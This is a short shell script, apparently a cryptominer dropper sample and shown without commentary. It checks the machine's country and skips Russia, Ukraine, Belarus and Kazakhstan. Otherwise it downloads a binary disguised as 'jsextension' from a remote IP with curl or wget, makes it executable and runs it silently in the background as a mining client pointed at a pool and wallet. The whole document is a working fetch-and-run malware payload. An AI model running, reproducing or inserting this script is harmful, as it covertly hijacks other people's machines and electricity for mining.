IP=$(curl -k https://geo.invalid/api/json/ 2>/dev/null | grep 'country_code' | grep -E 'RU|UA|BY|KZ')
if [ -z "$IP" ]
then
  var=$(pgrep jsextension)
  if [ -z "$var" ]
  then
    curl http://192.0.2.186/download/jsextension -o jsextension
    if [ ! -f jsextension ]
    then
      wget http://192.0.2.186/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.invalid:443 -u wallet.invalid --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
